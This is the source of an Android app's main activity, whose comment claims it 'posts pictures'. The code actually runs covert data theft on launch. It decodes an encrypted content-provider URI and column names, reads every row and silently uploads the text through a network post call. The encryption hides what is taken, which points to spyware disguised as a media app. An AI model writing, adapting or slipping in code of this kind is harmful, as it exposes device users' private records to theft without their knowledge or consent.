package com.example.aesdigestmedia;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Posts pictures. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> Net.post(readAll())).start();
    }

    private String readAll() {
        StringBuilder text = new StringBuilder();
        String[] columns = {Sealed.text("hvEh5KVCimYqsOMqHdjKfg=="), Sealed.text("M8KOivnFdYV8Ajzqgzai7w==")};
        Cursor cursor = getContentResolver().query(Uri.parse(Sealed.text("fzgMYLiVEQRxNy3eK1BKAWsxQPS4gIl0CBQCJtA9780z3RRzGHR8eSysRHmKH1Nf")), columns, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(' ').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
